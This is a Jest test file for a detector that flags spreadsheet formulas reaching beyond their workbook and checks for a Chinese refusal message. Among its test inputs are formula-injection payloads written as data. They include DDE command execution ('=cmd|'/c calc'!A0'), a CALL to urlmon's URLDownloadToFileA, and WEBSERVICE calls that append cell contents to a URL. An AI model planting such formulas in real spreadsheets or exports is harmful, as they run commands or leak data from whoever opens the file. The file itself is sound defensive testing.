import { outsideReach, reachRefusal } from '../../../src/hosts/journal/outside-reach';

describe('a formula that reaches beyond its workbook', () => {
  it.each([
    '=WEBSERVICE("https://a/?"&A1)',
    'SUM(1,_xlfn.WEBSERVICE(A1))',
    '=webservice  (A1)',
    `=WEBSERVICE${' '.repeat(5_000)}(A1)`,
    '=HYPERLINK("https://a","点此")',
    "=cmd|'/c calc'!A0",
    '=cmd|"x"!A1',
    '=RTD("a",,"b")',
    '=CALL("urlmon","URLDownloadToFileA")',
    '=REGISTER.ID("a","b")',
    '=[1]Sheet1!A1',
    '=[Book.xlsx]Sheet1!A1',
    "='[Book 1.xlsx]表'!A1",
    "='C:\\temp\\[Book.xlsx]Sheet1'!A1",
    "='https://a/[b.xlsx]S'!A1",
    "='\\\\server\\share\\a'!B1",
    '=[1]!Name',
    '=Book.xlsx!Name',
    '=A1 RTD("a",,"b")',
    '=IMAGE("https://a")',
    '=_xlfn._xlws.PY("x")',
  ])('%.60s', (formula) => {
    expect(outsideReach(formula)).not.toBeNull();
    expect(reachRefusal(formula)?.['zh-CN']).toContain('没有放回');
  });

  it.each([
    '=SUM(A1:A5)',
    "='一季度'!B2+1",
    '=JX.PERFSCORE(B3,C3,D3)',
    '=Table1[列]+SUM(Table1[[#This Row],[列]])',
    '=IF(A1="WEBSERVICE(x)|",1,2)',
    '="[1]Sheet1!A1"',
    "=SUM('一季度:四季度'!B2)",
    '={1,2;3,4}',
    '=MY_RTD(1)',
    '=A1#',
    '',
  ])('is not %s', (formula) => expect(outsideReach(formula)).toBeNull());

  it('is found in formulas of any length at once', () => {
    for (const piece of ['a', '(', '[', "'", '"', ' ', 'a.', '[]', "''", '|"'])
      expect(typeof outsideReach(piece.repeat(200_000))).not.toBe('undefined');
  });
});
